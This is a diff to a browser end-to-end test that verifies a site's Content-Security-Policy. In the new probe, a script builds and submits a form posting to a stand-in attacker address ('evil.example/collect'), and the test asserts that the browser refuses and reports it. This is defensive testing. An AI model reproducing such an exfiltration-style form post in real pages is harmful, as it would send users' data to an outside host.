@@ -109,12 +109,19 @@ test('every main page renders and runs with zero Content-Security-Policy violati
   await expect(customer.getByRole('heading', { name: 'Thank you!' })).toBeVisible();
   expect(await customerViolations()).toEqual([]);
 
-  // The watch itself works: a script injected without the nonce is refused and reported.
-  await customer.evaluate(() => {
-    const injected = document.createElement('script');
-    injected.textContent = 'document.title = "injected"';
-    document.body.append(injected);
+  // The watch itself works: on a fresh page under the same policy, a form that posts to another
+  // site (form-action 'self') is refused and reported, so the empty lists above mean something.
+  // (Code run through page.evaluate is exempt from script-src, so the probe is a form, not eval.)
+  const probe = await newPerson(browser);
+  const probeViolations = await watchViolations(probe);
+  nonceOf(await probe.goto(link));
+  await probe.evaluate(() => {
+    const form = document.createElement('form');
+    form.method = 'post';
+    form.action = 'https://evil.example/collect';
+    document.body.append(form);
+    form.submit();
   });
-  await expect.poll(() => customer.evaluate(() => window.cspViolations.length)).toBe(1);
-  expect(await customer.title()).not.toBe('injected');
+  await expect.poll(async () => (await probeViolations()).join('\n')).toContain('form-action');
+  expect(new URL(probe.url()).pathname).toBe(link);
 });
